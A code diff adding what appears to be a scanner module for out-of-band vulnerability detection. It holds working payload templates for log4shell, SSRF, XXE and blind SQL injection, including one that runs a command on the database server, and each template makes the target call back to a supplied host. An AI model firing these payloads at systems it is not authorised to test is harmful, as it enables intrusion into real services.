@@ -0,0 +1,29 @@
+PAYLOAD_TEMPLATES = {
+    'log4shell': [
+        '${{jndi:ldap://{cid}.{host}/a}}',
+        '${{jndi:dns://{cid}.{host}/a}}',
+        '${{jndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{cid}.{host}/a}}',
+    ],
+    'ssrf': [
+        'http://{host}/{cid}',
+        'http://{cid}.{host}/',
+        'https://{cid}.{host}/',
+    ],
+    'xxe': [
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://{host}/{cid}">]><r>&x;</r>',
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://{host}/{cid}.dtd">%x;]><r/>',
+    ],
+    'blind-sqli': [
+        "'; exec master..xp_dirtree '//{cid}.{host}/a'--",
+        "' || UTL_HTTP.REQUEST('http://{cid}.{host}/') || '",
+        "' UNION SELECT LOAD_FILE('\\\\\\\\{cid}.{host}\\\\a')-- ",
+        "'; COPY (SELECT '') TO PROGRAM 'nslookup {cid}.{host}'--",
+    ],
+}
+
+
+def render_payloads(kind, cid, host):
+    return [
+        template.format(cid=cid, host=host)
+        for template in PAYLOAD_TEMPLATES[kind]
+    ]